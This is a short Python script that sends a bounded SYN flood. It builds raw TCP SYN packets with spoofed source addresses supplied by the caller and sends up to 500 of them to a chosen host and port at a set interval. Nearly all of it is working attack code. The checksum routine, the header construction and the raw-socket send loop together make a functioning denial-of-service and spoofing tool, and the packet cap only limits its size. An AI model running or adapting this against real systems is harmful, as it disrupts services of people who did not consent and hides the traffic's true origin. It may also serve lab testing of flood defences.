"""SYNs from addresses that will never answer: a flood, small and bounded.

    python3 flood.py DESTINATION PORT COUNT INTERVAL_MS SOURCE...

Needs raw sockets. Every SYN has a source port of its own; sources take turns.
"""
import socket
import struct
import sys
import time

COUNT_MAX = 500


def checksum(data):
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, destination, sport, dport):
    """A TCP header with the option MSS 1460, RFC 9293 section 3.1; the kernel adds that of IPv4."""
    options = struct.pack("!BBH", 2, 4, 1460)
    header = struct.pack("!HHIIBBHHH", sport, dport, sport << 16, 0, 6 << 4, 2, 64240, 0, 0)
    segment = header + options
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    check = checksum(pseudo + segment)
    return segment[:16] + struct.pack("!H", check) + segment[18:]


def packet(source, destination, sport, dport):
    segment = syn(source, destination, sport, dport)
    # Total length, identification and checksum are filled in by the kernel: raw(7).
    header = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0)
    return header + source + destination + segment


def main(destination, dport, count, interval, *sources):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(min(int(count), COUNT_MAX)):
        source = socket.inet_aton(sources[number % len(sources)])
        frame = packet(source, socket.inet_aton(destination), 20000 + number, int(dport))
        raw.sendto(frame, (destination, 0))
        time.sleep(int(interval) / 1000)


main(*sys.argv[1:])
